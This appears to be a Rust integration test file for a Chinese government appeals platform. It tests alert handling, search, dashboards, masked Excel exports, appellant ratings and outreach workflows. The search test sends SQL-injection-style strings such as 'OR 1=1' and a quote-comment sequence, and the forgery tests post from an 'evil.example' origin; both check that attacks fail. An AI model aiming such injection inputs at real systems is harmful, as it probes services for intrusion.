        ("text", "我不会跳楼的，就想把工钱要回来"),
    ])
    .await;
    assert_eq!(
        alerts(dispatcher_token.clone()).await["total"].as_i64(),
        Some(before + 1)
    );

    // The board and the alert's page, for the duty desk only to act on.
    let dispatcher = app.login("dispatcher1").await;
    let (status, page) = app.get("/staff/alerts", &dispatcher).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        page.contains("红色") && page.contains(&format!("/staff/alerts/{id}")),
        "{page}"
    );
    let (_, case) = app.get(&format!("/staff/appeals/{no}"), &dispatcher).await;
    assert!(case.contains("data-test=\"appeal-alert\""));
    let caller = app.login("callcenter1").await;
    let r = app
        .post(
            &format!("/staff/alerts/{id}"),
            &caller,
            &[("action", "escalate")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let r = app
        .post(
            &format!("/staff/alerts/{id}"),
            &dispatcher,
            &[("action", "resolve"), ("outcome", " ")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        r.text().await.expect("page").contains("化解结果：此项必填"),
        "the field is named in Chinese"
    );
    let zjj = app.unit_id("rsj").await;
    let r = app
        .post(
            &format!("/staff/alerts/{id}"),
            &dispatcher,
            &[("action", "take"), ("unit", zjj.as_str())],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let r = app
        .post(
            &format!("/staff/alerts/{id}"),
            &dispatcher,
            &[
                ("action", "resolve"),
                ("outcome", "镇里已上门，工资本周发放"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, page) = app
        .get(&format!("/staff/alerts/{id}?done=1"), &dispatcher)
        .await;
    assert!(page.contains("data-test=\"alert-done\"") && page.contains("工资本周发放"));
    // Its digest: words, a day's bar, the place (no centroid here: no map, a table).
    assert!(
        page.contains("data-test=\"alert-digest\"")
            && page.contains("data-test=\"alert-timeline\"")
    );
    let places = between(&page, "data-test=\"alert-places\"", "</table>");
    assert!(places.contains("<td>1</td>"), "{places}");
    assert!(
        !page.contains("data-test=\"alert-resolve\""),
        "no more actions once resolved"
    );
    assert_eq!(
        alerts(dispatcher_token.clone()).await["total"].as_i64(),
        Some(before)
    );

    // Search: the inbox and the API, ranked, marked, inside the scope.
    let (_, inbox) = app
        .get("/staff?view=all&q=%E6%A5%BC%E4%B8%8A", &dispatcher)
        .await;
    assert!(
        inbox.contains(&no) && inbox.contains("<mark>楼上</mark>"),
        "{inbox}"
    );
    let (_, nothing) = app
        .get("/staff?view=all&q=%EF%BC%81%EF%BC%81", &dispatcher)
        .await;
    assert!(nothing.contains("没有可查找的词"));
    let (status, found) = app
        .api(
            Method::GET,
            "/appeals?q=%E8%B7%B3%E4%B8%8B%E5%8E%BB",
            &dispatcher_token,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{found}");
    assert_eq!(found["items"][0]["no"], no.as_str());
    assert_eq!(found["items"][0]["risk"], "life");
    let marked: Vec<&str> = found["items"][0]["snippet"]
        .as_array()
        .expect("snippet")
        .iter()
        .filter(|p| p["match"] == true)
        .filter_map(|p| p["text"].as_str())
        .collect();
    assert_eq!(marked, ["跳下去"]);
    for odd in ["%22", "OR%201%3D1", "NEAR(a%20b)", "%27%3B--", "*"] {
        let (status, _) = app
            .api(
                Method::GET,
                &format!("/appeals?q={odd}"),
                &dispatcher_token,
                None,
            )
            .await;
        assert_eq!(status, StatusCode::OK, "q={odd}");
    }
    // A malformed or repeated query parameter is named, in Chinese without English.
    for (query, field) in [
        ("limit=abc", "limit"),
        ("alert=x", "alert"),
        ("q=a&q=b", "q"),
    ] {
        let (status, body) = app
            .api(
                Method::GET,
                &format!("/appeals?{query}"),
                &dispatcher_token,
                None,
            )
            .await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{query}: {body}");
        assert_eq!(body["error"]["field"], field, "{query}: {body}");
        let zh = body["error"]["message"]["zh-CN"].as_str().unwrap_or("");
        assert!(!zh.contains("Failed") && !zh.contains("invalid"), "{zh}");
    }
    // Too long is refused whatever else the query says (an unknown township included).
    let long = "暖".repeat(201);
    let (status, body) = app
        .api(
            Method::GET,
            &format!("/appeals?q={long}&township=000000000000"),
            &dispatcher_token,
            None,
        )
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
    assert_eq!(body["error"]["field"], "q", "{body}");
    let outsider = app.token("slj.handler").await;
    let (_, hidden) = app
        .api(
            Method::GET,
            "/appeals?q=%E8%B7%B3%E4%B8%8B%E5%8E%BB",
            &outsider,
            None,
        )
        .await;
    assert_eq!(
        hidden["total"], 0,
        "outside the scope, search finds nothing"
    );

    // Routing suggestions on the case and in the API.
    let (_, detail) = app
        .api(
            Method::GET,
            &format!("/appeals/{no}"),
            &dispatcher_token,
            None,
        )
        .await;
    assert_eq!(
        detail["suggestions"]["categories"][0]["code"], "laodong",
        "{detail}"
    );
    assert!(
        detail["suggestions"]["units"]
            .as_array()
            .is_some_and(|u| !u.is_empty())
    );
    assert!(case.contains("data-test=\"suggestions\""));
    assert!(!case.contains("data-test=\"litigation\""));
    // A matter already before a court: the legal track is suggested.
    let (court, _) = app
        .submit(&[
            ("category", "laodong"),
            ("text", "劳动仲裁裁决都下来两年了，老板一分钱没给"),
        ])
        .await;
    let (_, page) = app
        .get(&format!("/staff/appeals/{court}"), &dispatcher)
        .await;
    assert!(page.contains("data-test=\"litigation\""), "{page}");
    let (_, detail) = app
        .api(
            Method::GET,
            &format!("/appeals/{court}"),
            &dispatcher_token,
            None,
        )
        .await;
    assert_eq!(detail["litigation"], "仲裁");

    // Similar appeals in one place: the second joins the first's cluster, and says why.
    let (one, _) = app
        .submit(&[
            ("category", "gongre"),
            ("text", "幸福社区3号楼暖气不热，屋里只有十二度"),
        ])
        .await;
    let (two, _) = app
        .submit(&[
            ("category", "gongre"),
            ("text", "我们社区供暖不达标，暖气片冰凉，孩子冻感冒了"),
        ])
        .await;
    let (_, page) = app.get(&format!("/staff/appeals/{two}"), &dispatcher).await;
    assert!(
        page.contains("data-test=\"cluster\"") && page.contains(&one),
        "{page}"
    );
    assert!(page.contains("同一村"), "the reason is shown");
    let (_, detail) = app
        .api(
            Method::GET,
            &format!("/appeals/{two}"),
            &dispatcher_token,
            None,
        )
        .await;
    assert!(
        detail["cluster"]["size"].as_i64().is_some_and(|n| n >= 2),
        "{detail}"
    );
    assert!(
        detail["cluster"]["members"]
            .as_array()
            .is_some_and(|m| m.iter().any(|x| x["why"]["zh-CN"]
                .as_str()
                .is_some_and(|w| w.contains("同一村"))))
    );
}

/// The number after `data-test="{test}"`'s opening tag, up to the next `<`.
fn tagged(body: &str, test: &str) -> String {
    let start = body
        .find(&format!("data-test=\"{test}\""))
        .unwrap_or_else(|| panic!("no {test} in the page"));
    let rest = &body[start..];
    let open = rest.find('>').expect("tag end") + 1;
    rest[open..open + rest[open..].find('<').expect("text end")]
        .trim()
        .to_owned()
}

#[tokio::test]
async fn leaders_land_on_figures_that_match_the_lists_behind_them() {
    let app = app("dashboard").await;
    let mut numbers = Vec::new();
    for _ in 0..3 {
        numbers.push(app.submit(&[]).await.0);
    }
    // One case through to a visit: 基本满意, partly solved.
    let handler = app.login("zjj.handler").await;
    let caller = app.login("callcenter1").await;
    let no = &numbers[0];
    assert_eq!(
        app.act(&handler, no, &[("action", "sign_for")]).await.0,
        StatusCode::SEE_OTHER
    );
    assert_eq!(
        app.act(&handler, no, &[("action", "reply"), ("text", "已修复")])
            .await
            .0,
        StatusCode::SEE_OTHER
    );
    assert_eq!(
        app.act(
            &caller,
            no,
            &[
                ("action", "return_visit"),
                ("rating", "basic"),
                ("solved", "partly"),
                ("text", "回访")
            ]
        )
        .await
        .0,
        StatusCode::SEE_OTHER
    );

    // A leader's login lands on the dashboard.
    let r = app
        .post(
            "/staff/login",
            "",
            &[("username", "leader1"), ("password", PASSWORD)],
        )
        .await;
    assert_eq!(r.headers()["location"], "/staff/dashboard");
    let leader = app.login("leader1").await;
    let (status, page) = app.get("/staff/dashboard", &leader).await;
    assert_eq!(status, StatusCode::OK);
    let received = between(&page, "data-test=\"headline-received\"", "</a>");
    assert_eq!(tagged(&received, "headline-value"), "3");
    // 满意率: 基本满意 counts as satisfied; 解决率: partly is not solved.
    let satisfaction = between(&page, "data-test=\"headline-satisfaction\"", "</a>");
    assert_eq!(tagged(&satisfaction, "headline-value"), "100.0%");
    let resolution = between(&page, "data-test=\"headline-resolution\"", "</a>");
    assert_eq!(tagged(&resolution, "headline-value"), "0.0%");
    // The figure links to the inbox with the same period: the same three appeals.
    let href = between(&received, "href=\"", "\"").replace("&#38;", "&");
    assert!(href.starts_with("/staff?view=all&from="), "{href}");
    let (status, list) = app.get(&href, &leader).await;
    assert_eq!(status, StatusCode::OK);
    assert!(list.contains("共 3"), "the list behind the figure holds 3");
    for n in &numbers {
        assert!(list.contains(n.as_str()), "{n} listed");
    }
    // The visit's verdict counts for the cadre who replied (群众口碑).
    let cadres = between(&page, "data-test=\"cadres\"", "</table>");
    let row = between(&cadres, "zjj.handler的名字", "</tr>");
    assert!(row.contains("100.0%"), "satisfied, as judged: {row}");

    // The three-character reply is a sign of a false closure; the count links to it.
    let signs = between(&page, "data-test=\"signs\"", "</table>");
    assert!(signs.contains("答复过于简单"), "{signs}");
    let short = between(&signs, "答复过于简单", "</tr>");
    assert_eq!(tagged(&short, "sign-count"), "1");
    let (_, flagged) = app
        .get("/staff?view=all&tag=sign:short-reply", &leader)
        .await;
    assert!(flagged.contains("共 1") && flagged.contains(no.as_str()));
    // The numbers are tables too (no JavaScript needed), and the charts' data rides
    // along in an attribute; the chart library is served by Minsheng itself.
    assert!(page.contains("data-test=\"unit-ranking\"") && page.contains("data-charts="));
    let (status, js) = app.get("/static/vendor/echarts.min.js", "").await;
    assert_eq!(status, StatusCode::OK);
    assert!(js.contains("Apache"), "ECharts with its licence header");
    // A month with nothing, a township outside the county, and nonsense.
    let (status, empty) = app
        .get("/staff/dashboard?from=2020-01&to=2020-02", &leader)
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(
        tagged(
            &between(&empty, "headline-received", "</a>"),
            "headline-value"
        ),
        "0"
    );
    assert!(
        empty.contains("—"),
        "rates with nothing to count show a dash"
    );
    let (status, _) = app
        .get("/staff/dashboard?township=110101001000", &leader)
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let (status, _) = app
        .get(
            "/staff/dashboard?from=x%27&to=9999-99&township=%3Cb%3E",
            &leader,
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    // The report of this month: a printable page and the same as Excel, leading with
    // the sentence a county's summary would.
    let month = chrono::Utc::now()
        .with_timezone(&minsheng_core::clock::china())
        .format("%Y-%m")
        .to_string();
    let (status, html) = app
        .get(&format!("/staff/reports?from={month}"), &leader)
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        html.contains("本月受理群众诉求 3 件"),
        "{}",
        between(&html, "report-sentences", "</section>")
    );
    let (status, headers, bytes) = app
        .get_bytes(
            &format!("/staff/reports.xlsx?from={month}"),
            ("cookie", &leader),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        headers["content-disposition"]
            .to_str()
            .expect("ascii")
            .starts_with("attachment;")
    );
    use calamine::{DataType, Reader};
    let mut book: calamine::Xlsx<_> =
        calamine::Xlsx::new(std::io::Cursor::new(bytes)).expect("an Excel workbook");
    assert_eq!(
        book.sheet_names()[..2],
        ["概况".to_owned(), "单位排名".to_owned()]
    );
    let summary = book.worksheet_range("概况").expect("summary");
    let sentence = summary
        .get_value((3, 0))
        .expect("first sentence")
        .to_string();
    assert!(
        sentence.starts_with("本月受理群众诉求 3 件，"),
        "{sentence}"
    );
    let units = book.worksheet_range("单位排名").expect("units");
    let received: f64 = units
        .rows()
        .skip(1)
        .filter_map(|r| r.get(3).and_then(|c| c.get_float()))
        .sum();
    assert_eq!(
        received, 3.0,
        "the ranking's appeals add up to those received"
    );
    // The list behind the figure, out to Excel: the same three appeals, names and
    // phones masked as the list shows them, and the export on the audit chain.
    let records = app.store.verify_audit().await.expect("verify").records;
    let export = href.replacen("/staff?", "/staff/export.xlsx?", 1);
    let (status, headers, bytes) = app.get_bytes(&export, ("cookie", &leader)).await;
    assert_eq!(status, StatusCode::OK, "{export}");
    assert!(
        headers["content-disposition"]
            .to_str()
            .expect("ascii")
            .contains(".xlsx")
    );
    let mut book: calamine::Xlsx<_> =
        calamine::Xlsx::new(std::io::Cursor::new(bytes)).expect("an Excel workbook");
    let sheet = book.worksheet_range("诉求列表").expect("the list");
    let rows: Vec<Vec<String>> = sheet
        .rows()
        .map(|r| r.iter().map(|c| c.to_string()).collect())
        .collect();
    assert_eq!(rows.len(), 4, "a header and the three appeals");
    for n in &numbers {
        assert!(rows.iter().any(|r| r[0] == n.as_str()), "{n} exported");
    }
    let all: String = rows.concat().concat();
    assert!(
        !all.contains("13800138000") && !all.contains("张三丰"),
        "personal data masked"
    );
    assert!(all.contains("138****8000"), "{all}");
    assert_eq!(
        app.store.verify_audit().await.expect("verify").records,
        records + 1,
        "the export is on the audit chain"
    );
    // A handler's export is their unit's inbox, nothing more.
    let (status, _, bytes) = app
        .get_bytes(
            "/staff/export.xlsx?view=all&category=gongshui",
            ("cookie", &handler),
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    let mut book: calamine::Xlsx<_> =
        calamine::Xlsx::new(std::io::Cursor::new(bytes)).expect("an Excel workbook");
    assert_eq!(
        book.worksheet_range("诉求列表")
            .expect("list")
            .rows()
            .count(),
        1
    );

    // The printable assignment sheet: for those who may see the case, masked.
    let (status, sheet) = app
        .get(&format!("/staff/appeals/{no}/sheet"), &handler)
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(sheet.contains("群众诉求交办单") && sheet.contains(no.as_str()));
    assert!(sheet.contains("138****8000") && !sheet.contains("13800138000"));
    let other = app.login("slj.handler").await;
    let (status, _) = app.get(&format!("/staff/appeals/{no}/sheet"), &other).await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // The public figures: anyone, no login, nothing under five.
    let (status, public) = app.get("/figures", "").await;
    assert_eq!(status, StatusCode::OK);
    assert!(public.contains("少于 5 件的数字不公开") && !public.contains("张三丰"));

    // A handler has no dashboard, no report, and no link to either.
    let (status, _) = app.get("/staff/dashboard", &handler).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = app.get("/staff/reports.xlsx", &handler).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (_, inbox) = app.get("/staff", &handler).await;
    assert!(!inbox.contains("nav-dashboard"));
}

/// The people's verdict over HTTP: the receipt and the track page link to the verdict
/// form, the appellant's answer is recorded once, a cross-site post is refused, and
/// the unit's contest goes to a supervisor who rules on it.
#[tokio::test]
async fn the_appellant_rates_the_answer_and_a_contest_goes_to_a_supervisor() {
    let app = app("verdict").await;
    let (no, code) = app.submit(&[]).await;
    let (_, receipt) = app.get(&format!("/receipt/{code}"), "").await;
    assert!(receipt.contains(&format!("/track/{code}/verdict")));
    // Nothing to rate before an answer.
    let (status, page) = app.get(&format!("/track/{code}/verdict"), "").await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains("data-test=\"verdict-closed\""));
    let handler = app.login("zjj.handler").await;
    app.act(&handler, &no, &[("action", "sign_for")]).await;
    let (status, _) = app
        .act(
            &handler,
            &no,
            &[
                ("action", "reply"),
                ("text", "已更换供暖阀门，室温恢复到20度，请监督"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (_, track) = app.get(&format!("/track/{code}"), "").await;
    assert!(track.contains("data-test=\"verdict-open\""), "{track}");
    let (_, page) = app.get(&format!("/track/{code}/verdict"), "").await;
    assert!(page.contains("已更换供暖阀门") && page.contains("data-test=\"give-verdict\""));
    // A verdict must say both things; the form comes back as typed.
    let path = format!("/track/{code}/verdict");
    let r = app
        .post(&path, "", &[("rating", "unsatisfied"), ("note", "还是冷")])
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body = r.text().await.expect("body");
    assert!(body.contains("请选择是否满意") && body.contains("还是冷"));
    // Another site cannot rate in the appellant's name.
    let r = app
        .client
        .post(format!("{}{path}", app.base))
        .header("origin", "https://evil.example")
        .form(&[("rating", "satisfied"), ("solved", "solved")])
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let r = app
        .post(
            &path,
            "",
            &[
                ("rating", "unsatisfied"),
                ("solved", "unsolved"),
                ("note", "还是冷"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        r.headers()["location"],
        format!("/track/{code}?rated=1").as_str()
    );
    let (_, track) = app.get(&format!("/track/{code}?rated=1"), "").await;
    assert!(
        track.contains("data-test=\"verdict-thanks\"")
            && !track.contains("data-test=\"verdict-open\"")
    );
    // Once per answer.
    let r = app
        .post(&path, "", &[("rating", "satisfied"), ("solved", "solved")])
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    // The unit contests the verdict; it waits on the supervisors' list.
    let (_, _, actions) = app.case_page(&handler, &no).await;
    assert!(actions.contains(&"contest".to_owned()), "{actions:?}");
    let (status, _) = app
        .act(
            &handler,
            &no,
            &[
                ("action", "contest"),
                ("text", "室温已达标，诉求超出供暖标准"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let supervisor = app.login("supervisor1").await;
    let (_, list) = app
        .get("/staff?view=all&tag=contest:pending", &supervisor)
        .await;
    assert!(
        list.contains(&no),
        "the contest is on the supervisors' list"
    );
    let (_, _, actions) = app.case_page(&handler, &no).await;
    assert!(
        !actions.contains(&"rule_contest".to_owned()),
        "a unit does not rule on its own contest"
    );
    let (status, body) = app
        .act(
            &supervisor,
            &no,
            &[
                ("action", "rule_contest"),
                ("reason", "maybe"),
                ("text", "x"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(body.contains("请选择异议是否成立"));
    let (status, _) = app
        .act(
            &supervisor,
            &no,
            &[
                ("action", "rule_contest"),
                ("reason", "rejected"),
                ("text", "经回访核实，群众仍反映室温不足"),
            ],
        )
        .await;
    assert_eq!(status, StatusCode::SEE_OTHER);
    let (_, list) = app
        .get("/staff?view=all&tag=contest:pending", &supervisor)
        .await;
    assert!(!list.contains(&no));
    let (page, _, _) = app.case_page(&supervisor, &no).await;
    assert!(page.contains("承办单位对评价提出异议") && page.contains("异议不成立"));
    // Neither is public.
    let (_, track) = app.get(&format!("/track/{code}"), "").await;
    assert!(!track.contains("异议") && !track.contains("诉求超出供暖标准"));
}

/// The id of `username`'s staff record.
async fn staff_id(app: &App, username: &str) -> String {
    let (staff, _) = app
        .store
        .staff_by_username(username)
        .await
        .expect("read")
        .expect("staff");
    staff.id.to_string()
}

/// Going to the people over HTTP: a reception day published and a visitor registered
/// at it, a contact cadre shown on the appeal page, a field visit that settled it, a
/// screened dispute with masked parties followed up, mediated and registered as an
/// appeal, a consultation the public answers (cross-site and robot posts refused),
/// and the ranking's weights for administrators only.
#[tokio::test]
async fn going_to_the_people_over_http() {
    let app = app("outreach").await;
    let desk = app.login("dispatcher1").await;
    let leader = app.login("leader1").await;
    let handler = app.login("zjj.handler").await;
    let leader_id = staff_id(&app, "leader1").await;
    let today = chrono::Utc::now()
        .with_timezone(&chrono::FixedOffset::east_opt(8 * 3600).expect("tz"))
        .date_naive()
        .to_string();

    // A reception day, on the portal; a visitor registered at it is the leader's.
    let r = app
        .post(
            "/staff/receptions",
            &desk,
            &[
                ("leader", &leader_id),
                ("day", &today),
                ("from", "00:00"),
                ("to", "23:59"),
                ("place", "县信访局接待大厅"),
                ("topic", ""),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let r = app
        .post(
            "/staff/receptions",
            &handler,
            &[
                ("leader", &leader_id),
                ("day", &today),
                ("from", "09:00"),
                ("to", "10:00"),
                ("place", "某地"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let (_, public) = app.get("/receptions", "").await;
    assert!(public.contains("县信访局接待大厅") && public.contains("leader1的名字"));
    let (_, staff_page) = app.get("/staff/receptions", &desk).await;
    let reception = between(&staff_page, "/staff/intake?reception=", "\"");
    let (status, intake) = app
        .get(&format!("/staff/intake?reception={reception}"), &desk)
        .await;
    assert_eq!(status, StatusCode::OK);
    assert!(intake.contains("data-test=\"intake-from\""));
    let r = app
        .post(
            "/staff/intake",
            &desk,
            &[
                ("channel", "visit"),
                ("kind", "complaint"),
                ("category", "gongre"),
                ("township", T1),
                ("village", V11),
                ("text", "小区供暖不热，找领导反映"),
                ("anonymous", "on"),
                ("reception", &reception),
            ],
        )
        .await;
    assert_eq!(
        r.status(),
        StatusCode::SEE_OTHER,
        "{}",
        r.text().await.unwrap_or_default()
    );
    let no = r.headers()["location"]
        .to_str()
        .expect("ascii")
        .trim_start_matches("/staff/appeals/")
        .trim_end_matches("?registered=1")
        .to_owned();
    let (page, _, _) = app.case_page(&desk, &no).await;
    assert!(
        page.contains("领导包案"),
        "the leader took charge at registration"
    );

    // A contact cadre for the village shows on the appeal page.
    let r = app
        .post(
            "/staff/contacts",
            &handler,
            &[
                ("kind", "community"),
                ("region", V11),
                ("staff", &leader_id),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    let r = app
        .post(
            "/staff/contacts",
            &desk,
            &[
                ("kind", "community"),
                ("region", V11),
                ("staff", &leader_id),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (page, _, _) = app.case_page(&desk, &no).await;
    assert!(page.contains("data-test=\"contacts\"") && page.contains("leader1的名字"));

    // A field visit that settled it; a bad number is said, and what was typed stays.
    let r = app
        .post(
            "/staff/visits",
            &leader,
            &[
                ("region", V11),
                ("day", &today),
                ("done", "on"),
                ("purpose", "走访供暖问题"),
                ("people", "社区居民"),
                ("resolved", "第一件"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let body = r.text().await.expect("body");
    assert!(body.contains("现场化解的诉求编号") && body.contains("走访供暖问题"));
    let r = app
        .post(
            "/staff/visits",
            &leader,
            &[
                ("region", V11),
                ("day", &today),
                ("done", "on"),
                ("purpose", "走访供暖问题"),
                ("people", "社区居民"),
                ("resolved", &no),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (page, _, _) = app.case_page(&desk, &no).await;
    assert!(page.contains("data-test=\"field-visits\"") && page.contains("下访化解"));

    // A screened dispute: parties masked, read in full with a reason, followed up,
    // mediated, then registered as an appeal.
    let r = app
        .post(
            "/staff/disputes",
            &desk,
            &[
                ("region", V11),
                ("kind", "land"),
                ("risk", "high"),
                ("parties", "王建国（村民）、李大山（村民）"),
                ("summary", "宅基地边界争执，扬言动手"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let at = r.headers()["location"].to_str().expect("ascii").to_owned();
    let id = between(&at, "/staff/disputes/", "?");
    let (_, page) = app.get(&at, &desk).await;
    assert!(page.contains("王**（村民）") && !page.contains("王建国"));
    let r = app
        .post(
            &format!("/staff/disputes/{id}/reveal"),
            &desk,
            &[("reason", "调解需要核实")],
        )
        .await;
    assert!(r.text().await.expect("body").contains("王建国"));
    let (_, register) = app.get("/staff/disputes?risk=high", &desk).await;
    assert!(register.contains("宅基地边界争执"));
    let r = app
        .post(
            &format!("/staff/disputes/{id}/follow-up"),
            &desk,
            &[
                ("note", "已约双方面谈"),
                ("risk", "medium"),
                ("state", "following"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let r = app
        .post(
            "/staff/mediations",
            &desk,
            &[
                ("dispute", &id),
                ("mediator", &leader_id),
                ("held_on", &today),
                ("parties", "王建国、李大山"),
                ("agreement", "各退半米"),
                ("outcome", "agreed"),
                ("judicial", "on"),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, mediations) = app.get("/staff/mediations", &desk).await;
    assert!(mediations.contains("各退半米") && !mediations.contains("王建国"));
    // Another township's head does not see it; a bureau's handler has no register.
    let t02 = app.login("t02.head").await;
    let (status, theirs) = app.get("/staff/mediations", &t02).await;
    assert_eq!(status, StatusCode::OK);
    assert!(!theirs.contains("各退半米"));
    assert_eq!(
        app.get("/staff/mediations", &handler).await.0,
        StatusCode::FORBIDDEN
    );
    let (_, intake) = app.get(&format!("/staff/intake?dispute={id}"), &desk).await;
    assert!(intake.contains("宅基地边界争执"));
    let r = app
        .post(
            "/staff/intake",
            &desk,
            &[
                ("channel", "visit"),
                ("kind", "dispute"),
                ("category", "gongre"),
                ("township", T1),
                ("village", V11),
                ("text", "宅基地边界争执，扬言动手"),
                ("anonymous", "on"),
                ("dispute", &id),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, page) = app.get(&format!("/staff/disputes/{id}"), &desk).await;
    assert!(page.contains("已转为诉求"));
    // The bureau's handler sees no area's register.
    assert_eq!(
        app.get("/staff/disputes", &handler).await.0,
        StatusCode::FORBIDDEN
    );

    // A consultation the public answers.
    let r = app
        .post(
            "/staff/consultations",
            &leader,
            &[
                ("title", "老旧小区加装电梯方案"),
                ("proposal", "拟对城关街道12个老旧小区加装电梯"),
                ("opens", &today),
                ("closes", &today),
            ],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let c = between(
        r.headers()["location"].to_str().expect("ascii"),
        "/staff/consultations/",
        "?",
    );
    let path = format!("/consultations/{c}");
    let (_, public) = app.get(&path, "").await;
    assert!(public.contains("data-test=\"opinion-form\""));
    let r = app
        .client
        .post(format!("{}{path}", app.base))
        .header("origin", "https://evil.example")
        .form(&[("opinion", "来自别的网站的意见")])
        .send()
        .await
        .expect("post");
    assert_eq!(r.status(), StatusCode::FORBIDDEN);
    assert_eq!(
        app.post(&path, "", &[("opinion", "机器人的意见"), ("website", "x")])
            .await
            .status(),
        StatusCode::BAD_REQUEST
    );
    let r = app.post(&path, "", &[("opinion", "好")]).await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let r = app
        .post(&path, "", &[("opinion", "建议一楼住户不分摊费用")])
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, staff_page) = app.get(&format!("/staff/consultations/{c}"), &leader).await;
    assert!(staff_page.contains("建议一楼住户不分摊费用"));
    assert_eq!(
        app.get(&format!("/staff/consultations/{c}"), &handler)
            .await
            .0,
        StatusCode::FORBIDDEN
    );
    let r = app
        .post(
            &format!("/staff/consultations/{c}/respond"),
            &leader,
            &[("response", "采纳：一楼住户不分摊费用")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, public) = app.get(&path, "").await;
    assert!(
        public.contains("data-test=\"consultation-response\"")
            && !public.contains("data-test=\"opinion-form\"")
    );
    assert!(
        !public.contains("建议一楼住户不分摊费用"),
        "opinions are not published"
    );

    // The ranking's weights: administrators only.
    assert_eq!(
        app.get("/staff/admin/weights", &leader).await.0,
        StatusCode::FORBIDDEN
    );
    let admin = app.login("admin").await;
    let r = app
        .post("/staff/admin/weights", &admin, &[("satisfaction", "101")])
        .await;
    assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
    let r = app
        .post(
            "/staff/admin/weights",
            &admin,
            &[("satisfaction", "60"), ("resolution", "40")],
        )
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    let (_, weights) = app.get("/staff/admin/weights", &admin).await;
    assert!(weights.contains("value=\"60\""));
    assert_eq!(app.get("/replies", "").await.0, StatusCode::OK);
    // Every change is in the audit chain, which holds.
    assert!(
        app.store
            .verify_audit()
            .await
            .expect("verify")
            .first_bad
            .is_none()
    );
}

#[tokio::test]
async fn notices_ring_the_bell_and_admins_word_the_sms() {
    use minsheng_app::notify::{Delivery, MailGateway, SmsGateway};
    let app = app("notices").await;
    let sms = app.dir.join("sms.jsonl");
    let worker = minsheng_app::App::new(app.store.clone()).with_delivery(Delivery {
        sms: SmsGateway::File(sms.clone()),
        mail: MailGateway::File(app.dir.join("mail.jsonl")),
        public_url: "https://12345.example.gov.cn".into(),
    });
    let handler = app.login("zjj.handler").await;
    let admin = app.login("admin").await;
    let (no, code) = app.submit(&[]).await;
    let (_, before) = app.get("/staff/notices/count", &handler).await;
    assert_eq!(before, r#"{"unread":0}"#, "nothing rings before delivery");
    worker
        .deliver_due(chrono::Utc::now())
        .await
        .expect("deliver");
    let receipt_sms = std::fs::read_to_string(&sms).expect("sms written");
    assert!(receipt_sms.contains(&code) && receipt_sms.contains("13800138000"));
    assert!(!receipt_sms.contains("张三丰"));

    // The bell: the count, the list, and opening a notice leads to the appeal.
    let (_, count) = app.get("/staff/notices/count", &handler).await;
    assert_eq!(count, r#"{"unread":1}"#);
    let (status, page) = app.get("/staff/notices", &handler).await;
    assert_eq!(status, StatusCode::OK);
    assert!(page.contains(&no) && page.contains("新派工单"), "{page}");
    let row = between(&page, "data-test=\"notice\"", "notice-open");
    let id = between(&row, "/staff/notices/", "/open");
    let r = app
        .post(&format!("/staff/notices/{id}/open"), &handler, &[])
        .await;
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
    assert_eq!(
        r.headers()["location"],
        format!("/staff/appeals/{no}").as_str()
    );
    let (_, count) = app.get("/staff/notices/count", &handler).await;
    assert_eq!(count, r#"{"unread":0}"#);
    // Another's notice cannot be opened as one's own: it stays unread for them.
    let (_, theirs) = app.get("/staff/notices", &admin).await;
    assert!(
        !theirs.contains(&no),
        "an administrator of another unit is not told"
    );

